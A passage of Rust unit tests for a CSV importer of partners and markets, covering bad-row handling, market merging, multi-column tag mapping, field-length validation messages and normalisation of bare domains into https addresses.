        let mut text = text.to_owned();
        // A bad row's market is not created.
        text.push_str("E,Hyperborea,\"\nunclosed");
        let result = import(&text, &ws);
        let new: Vec<&str> = result.new_markets.iter().map(|m| m.name.as_str()).collect();
        assert_eq!(new, ["Atlantis", "Lemuria", "Mu"]);
        let germany = ws.markets.iter().find(|m| m.name == "Germany").unwrap();
        assert_eq!(result.partners[0].markets[0], germany.id);
        assert_eq!(result.partners[0].markets.len(), 1, "Region is not mapped");
        assert_eq!(
            result.partners[1].markets,
            [result.new_markets[0].id.clone()]
        );
        let merged = import::apply(&ws, &result.incoming(&ws), Mode::Merge).unwrap();
        assert_eq!(merged.markets.len(), ws.markets.len() + 3);
    }

    #[test]
    fn several_columns_can_feed_lists_and_the_first_filled_one_wins_elsewhere() {
        let table =
            CsvTable::parse("Name,Tags,Labels,Notes,About\nA,x; y,\"z, w\",,about\n").unwrap();
        let mut mapping = suggest_mapping(&table.headers);
        mapping.set(2, Some(PartnerField::Tags));
        mapping.set(4, Some(PartnerField::Notes));
        let result = rows_to_partners(&table, &mapping, &Workspace::empty(), now(), ids()).unwrap();
        assert_eq!(result.partners[0].tags, ["x", "y", "z", "w"]);
        assert_eq!(result.partners[0].notes, "about");
    }

    #[test]
    fn extra_cells_are_a_bad_row_but_missing_trailing_cells_are_empty() {
        let result = import(
            "Name,Owner\nAcme, Inc,Kim\nBeat\nChord,Lee,,\n",
            &Workspace::empty(),
        );
        let names: Vec<&str> = result.partners.iter().map(|p| p.name.as_str()).collect();
        assert_eq!(names, ["Beat", "Chord"]);
        assert!(result.bad_rows[0]
            .reason
            .starts_with("has 3 cells but the header row has 2"));
    }

    #[test]
    fn validation_errors_name_the_column_of_the_file() {
        let long = "x".repeat(MAX_NAME + 1);
        let text = format!("Account Name,Account Owner,Tags\nA,{long},ok; {long}\n");
        let result = import(&text, &Workspace::empty());
        let reason = &result.bad_rows[0].reason;
        assert!(
            reason.contains("Account Owner has 121 characters; the limit is 120"),
            "{reason}"
        );
        assert!(reason.contains("Tags \"xxxx"), "{reason}");
        assert!(
            reason.contains("has 121 characters; the limit is 40"),
            "{reason}"
        );
    }

    #[test]
    fn bare_domains_become_https_addresses() {
        assert_eq!(website_from_cell("acme.com"), "https://acme.com");
        assert_eq!(
            website_from_cell("www.acme.com/x"),
            "https://www.acme.com/x"
        );
        assert_eq!(website_from_cell("javascript:x"), "javascript:x");
        assert_eq!(website_from_cell("acme"), "acme");
        assert_eq!(website_from_cell("http://a.b"), "http://a.b");
    }
}
